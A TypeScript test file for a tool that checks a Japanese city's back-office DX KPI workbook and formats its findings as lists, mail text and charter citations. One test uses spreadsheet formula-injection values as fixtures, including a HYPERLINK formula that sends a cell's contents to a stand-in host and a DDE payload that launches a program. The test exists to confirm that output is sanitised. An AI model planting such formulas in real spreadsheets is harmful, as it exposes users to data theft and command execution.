import { CHECK_WORDS, countsOf, remarkGroups, placesText, plainList, sheetLines, sheetNote } from '../../../src/pane/checks/check-words';
import { circledNumber } from '../../../src/pane/words/circled-number';
import { inspectWorkbook, type Inspection } from '../../../src/sheets/inspect/remark';
import { finish } from '../../../src/sheets/read/slices';
import { OSAKA } from '../../../src/sheets/templates/osaka';
import { cellsOf as templateCells, rowsOfAll } from '../../sheets/templates/filled';
import { actual, AS_OF, cellsOf, ENTRIES, HOURS, workbookState } from '../workbook-state';

const { ja, en } = CHECK_WORDS;
const inspected: Inspection = finish(
  inspectWorkbook(
    workbookState({
      DX_KPIs: cellsOf('DX_KPIs', [
        { ...HOURS, 目標2030: '約110万時間', 担当: '=総務局' },
        { ...ENTRIES, 担当: '総務局', 目標2040: '―' },
      ]),
      DX_Actuals: cellsOf('DX_Actuals', [actual('作業削減時間', 2025, 350000), actual('多重入力箇所', 2024, 100)]),
    }),
    AS_OF,
  ),
);

test('counts of what there is, in words', () => {
  expect(countsOf(inspected.remarks, ja)).toBe('要修正 1件、未記入 1件、未定 1件');
  expect(countsOf(inspected.remarks, en)).toBe('To correct: 1, To fill in: 1, Not decided: 1');
});

test('by sheet and by 所管', () => {
  expect(remarkGroups(inspected.remarks, 'sheet', ja).map(({ name, remarks }) => [name, remarks.length])).toEqual([['KPI', 3]]);
  expect(remarkGroups(inspected.remarks, 'division', ja).map(({ name, remarks }) => [name, remarks.length])).toEqual([
    ['=総務局', 1],
    ['総務局', 2],
  ]);
  const nobody = inspected.remarks.map((remark, index) => (index === 0 ? { ...remark, division: null } : remark));
  expect(remarkGroups(nobody, 'division', ja).map(({ name }) => name)).toEqual(['総務局', '所管の記入なし']);
});

test('within a group what is wrong comes first, then what is late, blank and undecided, each by row', () => {
  const { remarks } = finish(
    inspectWorkbook(
      workbookState({
        DX_KPIs: cellsOf('DX_KPIs', [
          { ...HOURS, 目標2040: '―' },
          { ...ENTRIES, 担当: '総務局', 目標2030: '未満' },
        ]),
        DX_Actuals: cellsOf('DX_Actuals', [actual('作業削減時間', 2025, 350000), actual('多重入力箇所', 2025, 100)]),
      }),
      AS_OF,
    ),
  );
  expect(remarks.map(({ category }) => category)).toEqual(['undecided', 'blank', 'correct']);
  expect(remarkGroups(remarks, 'sheet', ja).map(group => group.remarks.map(({ category }) => category))).toEqual([
    ['correct', 'blank', 'undecided'],
  ]);
});

test('the list for a mail', () => {
  const list = plainList(remarkGroups(inspected.remarks, 'sheet', ja), inspected, ja, '、');
  expect(list.split('\n')).toEqual([
    '点検結果（基準日 2026/9/30）',
    '要修正 1件、未記入 1件、未定 1件',
    '',
    '■ KPI（3件）',
    '1. KPI!G6 作業削減時間：「目標2030」には数値を入力してください（今の入力：「約110万時間」）。',
    '2. KPI!B7 KPI「多重入力箇所」の令和7年度の実績がありません。',
    '   根拠・対応方法：終わった年度の値がないと、評価が古いままになります。「概要」の「実績を追加」から入力できます。',
    '3. KPI!H7 多重入力箇所：「目標2040」が未定（―）です。決まったら入力してください。',
  ]);
});

test('lines, tabs and formulas that stand in a cell make no line of the list, and none of it begins as a formula would', () => {
  const evil = '多重入力\n=HYPERLINK("http://example.invalid/?"&A1,"押す")\t=1+1';
  const found = finish(
    inspectWorkbook(
      workbookState({
        DX_KPIs: cellsOf('DX_KPIs', [
          { ...HOURS, 名称: evil, 目標2030: '約110万時間', 担当: '課\r\n=2+2' },
          { ...ENTRIES, 目標2040: '\n+3+3', 担当: "\n=cmd|'/C calc'!A0" },
        ]),
        DX_Actuals: cellsOf('DX_Actuals', [actual(evil, 2025, 350000)]),
      }),
      AS_OF,
    ),
  );
  for (const words of [ja, en])
    for (const by of ['sheet', 'division'] as const) {
      const list = plainList(remarkGroups(found.remarks, by, words), found, words, '、');
      expect(list).toContain('=HYPERLINK');
      expect(list).not.toContain('\t');
      expect(list.split('\n').filter(line => !/^(?:点検結果|Check|要修正|To |■|\d+\. | {3}|$)/.test(line))).toEqual([]);
    }
});

test('a charter’s rule is quoted with document, article and sentence', () => {
  const rows = rowsOfAll([OSAKA]);
  const members = (rows.DX_Members ?? []).map(row => (row.role === '幹事' ? { ...row, post: '財政局長' } : row));
  const { remarks } = finish(inspectWorkbook(workbookState({ DX_Members: templateCells('DX_Members', members) }), AS_OF));
  const remark = remarks.find(({ what }) => what.kind === 'finding' && what.finding.message.kind === 'seatPost');
  if (!remark) throw new Error('no such remark');
  expect(ja.sentence(remark)).toBe('「バックオフィスDXPT」の幹事はデジタル統括室長ですが、職名が「財政局長」です。');
  expect(ja.basis(remark)).toEqual({
    cite: 'バックオフィスDXプロジェクトチーム設置要綱（大阪市、令和5年4月20日施行） 第3条第3項',
    quote:
      '「構成員は、デジタル統括室長、総務局長、財政局長、契約管財局長、会計室長の職にある者をもって充てる。なお、デジタル統括室長を幹事とする。」',
  });
  expect(placesText(remark, '、')).toBe('構成員!C7');
});

test('the lines of the sheet are Japanese, with the column’s own words as the basis of a cell’s issue', () => {
  expect(sheetLines(inspected.remarks)[0]).toEqual({
    sheet: 'KPI',
    cells: 'G6',
    content: '作業削減時間：「目標2030」には数値を入力してください（今の入力：「約110万時間」）。',
    division: '=総務局',
    category: '要修正',
    basis: '様式「目標2030」：この年の目標値を数値で入力します（110万時間は 1100000、80%は 80% と入力）。決まっていなければ「―」とします。',
  });
  expect(sheetLines(inspected.remarks).map(({ category }) => category)).toEqual(['要修正', '未記入', '未定']);
  expect(sheetNote(inspected)).toBe('2表 4行を確認し、指摘は3件です（要修正 1件、未記入 1件、未定 1件）。');
  expect(sheetNote({ ...inspected, remarks: [] })).toBe('指摘はありません（2表 4行を確認）');
});

test('the badge', () => {
  expect([1, 7, 20, 21, 35, 36, 50, 51].map(circledNumber)).toEqual(['①', '⑦', '⑳', '㉑', '㉟', '㊱', '㊿', '51']);
});
